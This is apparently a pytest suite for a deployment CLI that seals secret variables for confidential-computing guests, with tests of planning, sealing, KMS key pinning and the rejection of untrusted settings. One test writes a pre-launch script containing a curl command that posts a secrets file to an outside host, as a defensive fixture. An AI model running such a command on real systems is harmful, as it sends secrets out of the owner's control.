"""``blueprint deploy up``, ``plan``, ``prepare``, ``seal``, ``key``: at the fake cloud and a real engine."""

import hashlib
import json
from pathlib import Path

import pytest

from blueprint.cli.exits import ExitCode
from blueprint.testing.cloud import FakeCloud
from jobs.deploy.backends.local.private_engine import PrivateEngine
from tests.support.deploy_cli import PROJECT, Operator
from tests.support.docker import IMAGE, local

SECRET = 'planted "secret" \u00e9'
COMPOSE = """services:
  web:
    image: nginx:1.25
    environment:
      TOKEN: ${TOKEN}
"""


@pytest.fixture
def operator(cloud: FakeCloud, tmp_path: Path) -> Operator:
    """Somebody with an account at the fake cloud, a compose file and a secret."""
    made = Operator(
        tmp_path,
        settings={
            "BLUEPRINT_PLACE": "phala",
            "BLUEPRINT_CLOUD_URL": cloud.url,
            "BLUEPRINT_CLOUD_API_KEY": cloud.api_key,
            "BLUEPRINT_PCCS_URL": "http://127.0.0.1:9",
        },
        planted=(SECRET, cloud.api_key),
    )
    made.write("web-app/compose.yaml", COMPOSE)
    made.write("web-app/deploy.toml", 'allow = ["tag"]\n[size]\ninstance_type = "tdx.small"\n')
    made.write("vars", f"TOKEN='{SECRET}'\n")
    return made


def arrived(cloud: FakeCloud) -> dict[str, str]:
    """The variables that the only machine's guest could open."""
    (machine,) = cloud.machines
    assert machine.guest is not None
    return {variable.key: variable.value for variable in machine.guest.variables}


UP = ("up", "web-app", "--env-file", "vars", "--no-verify", "--json")


async def test_a_plan_sends_nothing_and_tells_hash_names_risks_and_price(
    operator: Operator, cloud: FakeCloud
) -> None:
    """What would be created is known before anything is."""
    ran = await operator.run("plan", "web-app", "--env-file", "vars")
    assert (ran.code, ran.stderr) == (0, "")
    assert ran.stdout.splitlines()[0] == "web-app at phala: create"
    for line in (
        "  variable + TOKEN",
        "  risk taken: tag",
        "  price: 0.06 USD/h",
        "  instance_type: - -> tdx.small",
    ):
        assert line in ran.stdout.splitlines()
    dry = await operator.run(*UP, "--dry-run")
    assert (dry.json["is_new"], dry.json["added"], dry.json["price"]) == (True, ["TOKEN"], "0.06 USD/h")
    assert dry.json["compose_hash"] in ran.stdout
    assert list(cloud.machines) == []
    assert not (operator.folder / "state" / "deployments").exists()


async def test_the_same_again_changes_nothing_and_another_text_updates(
    operator: Operator, cloud: FakeCloud
) -> None:
    """By its name a deployment is left alone, or changed with what was there shown beside what is wanted."""
    first = await operator.run(*UP)
    assert (first.code, first.json["stage"], first.json["is_verification_waived"]) == (0, "ready", True)
    again = await operator.run("plan", "web-app", "--env-file", "vars")
    assert again.stdout == "web-app at phala: nothing changes\n  risk taken: tag\n  price: 0.06 USD/h\n"
    second = await operator.run(*UP)
    assert second.json["machine_id"] == first.json["machine_id"]
    operator.write("web-app/compose.yaml", COMPOSE.replace("1.25", "1.26"))
    plan = await operator.run("plan", "web-app", "--env-file", "vars")
    assert {"-    image: nginx:1.25", "+    image: nginx:1.26", "  variable = TOKEN"} <= set(
        plan.stdout.splitlines()
    )
    third = await operator.run(*UP)
    assert (third.json["machine_id"], third.json["compose_hash"] == first.json["compose_hash"]) == (
        first.json["machine_id"],
        False,
    )
    assert len(cloud.machines) == 1


async def test_a_full_replacement_of_the_variables_is_shown(operator: Operator) -> None:
    """Another value sends all of them anew, and the plan says so without showing one."""
    await operator.run(*UP)
    operator.write("vars", "TOKEN=another\n")
    plan = await operator.run("plan", "web-app", "--env-file", "vars")
    assert (
        "  warning: all variables are replaced: what is not given again is gone" in plan.stdout.splitlines()
    )
    ran = await operator.run("up", "web-app", "--env-file", "vars", "--no-verify")
    assert "all variables are replaced" in ran.stderr
    assert "another" not in plan.stdout + ran.stdout + ran.stderr


async def test_who_has_the_secret_seals_and_who_deploys_never_sees_it(
    operator: Operator, cloud: FakeCloud, tmp_path: Path
) -> None:
    """Three files pass between them, without a secret; the guest gets the value."""
    prepared = await operator.run("prepare", "web-app", "--variable", "TOKEN", "--json")
    assert prepared.code == 0
    assert list(cloud.machines) == []
    author = Operator(tmp_path / "author", planted=(SECRET,))
    author.write("vars", f"TOKEN='{SECRET}'\n")
    author.write("compose.yaml", COMPOSE)
    author.write("web.request.json", (operator.folder / "web-app.request.json").read_text())
    kms = ("--kms-key", cloud.kms.root_public_key.hex())
    sealed = await author.run(
        "seal", "web.request.json", "--env-file", "vars", "--compose", "compose.yaml", "--json", *kms
    )
    assert sealed.code == 0, sealed.stderr
    content = (author.folder / "web.request.sealed.json").read_text()
    assert SECRET not in content
    operator.write("sealed.json", content)
    ran = await operator.run("up", "web-app", "--sealed", "sealed.json", "--no-verify", "--json")
    assert (ran.code, ran.json["app_id"]) == (0, sealed.json["app_id"])
    assert arrived(cloud) == {"TOKEN": SECRET}


async def test_an_envelope_for_another_text_is_refused(operator: Operator, cloud: FakeCloud) -> None:
    """The operator cannot by mistake give the variables to a text that their author has not seen."""
    await operator.run("prepare", "web-app", "--variable", "TOKEN")
    await operator.run("seal", "web-app.request.json", "--env-file", "vars", "--sealed", "sealed.json")
    operator.write("web-app/compose.yaml", COMPOSE.replace("1.25", "1.26"))
    ran = await operator.run("up", "web-app", "--sealed", "sealed.json", "--no-verify")
    assert (ran.code, "has not seen this text" in ran.stderr) == (ExitCode.FAILURE, True)
    assert list(cloud.machines) == []


async def test_an_author_who_expects_another_text_seals_nothing(operator: Operator) -> None:
    """The request is compared byte for byte with the file that the author gives."""
    await operator.run("prepare", "web-app", "--variable", "TOKEN")
    operator.write("mine.yaml", COMPOSE + "# mine\n")
    ran = await operator.run("seal", "web-app.request.json", "--env-file", "vars", "--compose", "mine.yaml")
    assert (ran.code, "another compose file" in ran.stderr) == (ExitCode.USAGE, True)
    assert not list(operator.folder.glob("*.sealed.json"))


async def test_a_script_beside_the_text_is_not_passed_over(operator: Operator) -> None:
    """The compose file is the expected one, but a script would see the variables: it must be given too."""
    operator.write("web-app/deploy.toml", 'allow = ["tag"]\npre_launch_script = "before.sh"\n')
    operator.write("web-app/before.sh", "curl -d @secrets https://example.com\n")
    await operator.run("prepare", "web-app", "--variable", "TOKEN")
    operator.write("mine.sh", "echo\n")
    seal = ("seal", "web-app.request.json", "--env-file", "vars", "--compose", "web-app/compose.yaml")
    for expected in ((), ("--script", "mine.sh")):
        ran = await operator.run(*seal, *expected)
        assert (ran.code, "has a pre-launch script" in ran.stderr) == (ExitCode.USAGE, True)
        assert not list(operator.folder.glob("*.sealed.json"))
    ran = await operator.run(*seal, "--script", "web-app/before.sh")
    assert (ran.code, "sees the variables before" in ran.stderr) == (0, True)


async def test_nothing_is_sealed_for_a_key_that_another_kms_vouches_for(operator: Operator) -> None:
    """A pinned KMS key is the only one that is believed."""
    await operator.run("prepare", "web-app", "--variable", "TOKEN")
    other = "02" + "11" * 32
    ran = await operator.run("seal", "web-app.request.json", "--env-file", "vars", "--kms-key", other)
    assert ran.code == ExitCode.ATTESTATION_FAILED
    assert not list(operator.folder.glob("*.sealed.json"))


async def test_variables_of_a_running_application_are_replaced_by_who_has_them(
    operator: Operator, cloud: FakeCloud
) -> None:
    """`key` gives the present key of a deployment, and `up --sealed` replaces its variables."""
    await operator.run(*UP)
    assert (await operator.run("key", "web-app", "--json")).code == 0
    operator.write("new", "TOKEN=new\n")
    await operator.run("seal", "web-app.request.json", "--env-file", "new", "--sealed", "sealed.json")
    ran = await operator.run("up", "web-app", "--sealed", "sealed.json", "--no-verify")
    assert ran.code == 0, ran.stderr
    assert arrived(cloud) == {"TOKEN": "new"}


async def test_an_attestation_that_cannot_be_verified_fails_the_deployment(operator: Operator) -> None:
    """It runs, but the command fails and the record does not say verified."""
    ran = await operator.run("up", "web-app", "--env-file", "vars", "--json")
    assert ran.code == ExitCode.ATTESTATION_FAILED
    record = json.loads((operator.folder / "state" / "deployments" / "web-app.json").read_text())
    assert (record["stage"], record["attestation"], record["is_verification_waived"]) == ("ready", "", False)


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (("up", "nowhere"), 2, "does not exist"),
        (
            ("up", "web-app", "--env-file", "nowhere"),
            1,
            "nowhere: No such file or directory; check --env-file",
        ),
        (("up", "web-app"), 1, "nothing provides TOKEN"),
        (("up", "web-app", "--env-file", "vars", "--sealed", "vars"), 2, "keep one"),
        (("up", "web-app", "--sealed", "vars"), 1, "no file of sealed variables"),
        (("seal", "vars", "--env-file", "vars"), 1, "no sealing request"),
        (("up", "web-app", "--env-file", "vars", "--name", "a b"), 1, "name"),
        (("up", "web-app", "--env-file", "vars", "--allow", "everything"), 2, "'everything' is not one of"),
        (("up", "web-app", "--env-file", "vars", "--instance-type", "huge", "--dry-run"), 1, "tdx.small"),
        (("up", "web-app", "--env-file", "vars", "--variable", "OTHER"), 1, "differ: OTHER, TOKEN"),
        (("key", "unknown"), 1, "no deployment named 'unknown'"),
    ],
)
async def test_a_wrong_argument_is_one_line_with_advice(
    operator: Operator, cloud: FakeCloud, arguments: tuple[str, ...], code: int, said: str
) -> None:
    """Nothing is sent, nothing is recorded."""
    ran = await operator.run(*arguments)
    assert (ran.code, said in ran.stderr) == (code, True), ran.stderr
    assert "Traceback" not in ran.stderr
    assert list(cloud.machines) == []
    assert not list((operator.folder / "state").glob("deployments/[!.]*"))


async def test_a_description_alone_does_not_own_this_host(operator: Operator) -> None:
    """Where the place is this host, a folder from elsewhere cannot allow itself to own it."""
    operator.settings["BLUEPRINT_PLACE"] = "local"
    operator.write(
        "web-app/compose.yaml", COMPOSE.replace("    environment", "    privileged: true\n    environment")
    )
    operator.write("web-app/deploy.toml", 'allow = ["tag", "privileged"]\n')
    ran = await operator.run(*UP)
    assert (ran.code, "--allow privileged" in ran.stderr) == (ExitCode.USAGE, True), ran.stderr
    meant = await operator.run("up", "web-app", "--env-file", "vars", "--allow", "privileged")
    assert (meant.code, "--trust-development-root" in meant.stderr) == (ExitCode.USAGE, True), meant.stderr


@pytest.mark.parametrize("file", [".env", "blueprint.toml"])
async def test_a_folder_names_no_receiver_of_the_key(operator: Operator, cloud: FakeCloud, file: str) -> None:
    """A folder from elsewhere is entered, and its settings would send the account's key to their author."""
    url = operator.settings.pop("BLUEPRINT_CLOUD_URL")
    name = "cloud_url" if file.endswith("toml") else "BLUEPRINT_CLOUD_URL"
    operator.write(file, f'{name} = "{url}"\n')
    for key in (
        {},
        {"BLUEPRINT_CLOUD_API_KEY": "", "BLUEPRINT_CLOUD_API_KEY_FILE": str(operator.folder / "vars")},
    ):
        (operator.folder / "vars").chmod(0o600)
        operator.settings |= key
        ran = await operator.run("plan", "web-app", "--env-file", "vars")
        assert (ran.code, "--cloud-url" in ran.stderr) == (ExitCode.USAGE, True), ran.stderr
    assert list(cloud.requests) == []


async def test_a_folder_names_no_kms_key_unnoticed(operator: Operator, cloud: FakeCloud) -> None:
    """Who hands out a request may hand out settings with it, which are read where `seal` is called."""
    await operator.run("prepare", "web-app", "--variable", "TOKEN")
    key = cloud.kms.root_public_key.hex()
    operator.write("blueprint.toml", f'kms_key = ["{key}"]\n')
    ran = await operator.run("seal", "web-app.request.json", "--env-file", "vars")
    assert (ran.code, f"as blueprint.toml of this folder says: {key}" in ran.stderr) == (0, True), ran.stderr
    operator.settings["BLUEPRINT_STATE_DIR"] = ""
    operator.write("blueprint.toml", 'state_dir = "theirs"\n')
    operator.write("theirs/kms-keys.json", json.dumps({"": key}))
    ran = await operator.run("seal", "web-app.request.json", "--env-file", "vars")
    assert (ran.code, "kms-keys.json says, which blueprint.toml" in ran.stderr) == (0, True), ran.stderr


async def test_without_a_place_or_a_key_the_command_says_what_to_give(operator: Operator) -> None:
    """Nothing is guessed where it would cost money."""
    del operator.settings["BLUEPRINT_CLOUD_API_KEY"]
    ran = await operator.run(*UP)
    assert (ran.code, "--cloud-api-key-file" in ran.stderr) == (ExitCode.USAGE, True)
    del operator.settings["BLUEPRINT_PLACE"]
    ran = await operator.run(*UP)
    assert (ran.code, "--place" in ran.stderr) == (ExitCode.USAGE, True)


@pytest.mark.docker
@pytest.mark.root
async def test_the_example_is_deployed_and_verified_on_a_real_engine(
    engine: PrivateEngine, tmp_path: Path
) -> None:
    """One command from a folder to a verified attestation; a development root must be trusted by name."""
    operator = Operator(
        tmp_path, settings={"DOCKER_HOST": f"unix://{engine.socket}", "BLUEPRINT_PLACE": "local"}
    )
    example = str(PROJECT / "examples" / "compose" / "hello")
    refused = await operator.run("up", example)
    assert (refused.code, "--trust-development-root" in refused.stderr) == (ExitCode.USAGE, True)
    async with local(tmp_path / "state" / "local", engine.socket):
        ran = await operator.run("up", example, "--trust-development-root", "--json")
    assert ran.code == 0, ran.stderr
    assert ran.json["stage"] == "verified"
    assert "freshness: the quote carries our nonce" in ran.json["checks"]
    record = json.loads((tmp_path / "state" / "deployments" / "hello.json").read_text())
    assert hashlib.sha256(record["app_compose"].encode()).hexdigest() == ran.json["compose_hash"]
    assert IMAGE in record["app_compose"]


async def test_the_api_key_is_the_first_line_of_its_file(operator: Operator, cloud: FakeCloud) -> None:
    """A file that ends in a new line, as editors leave it, is a key all the same."""
    key = operator.write("key", f"{cloud.api_key} \nnot of the key\n")
    key.chmod(0o600)
    del operator.settings["BLUEPRINT_CLOUD_API_KEY"]
    ran = await operator.run(
        "plan", "web-app", "--env-file", "vars", "--cloud-api-key-file", str(key), "--json"
    )
    assert (ran.code, ran.json["is_new"]) == (0, True), ran.stderr
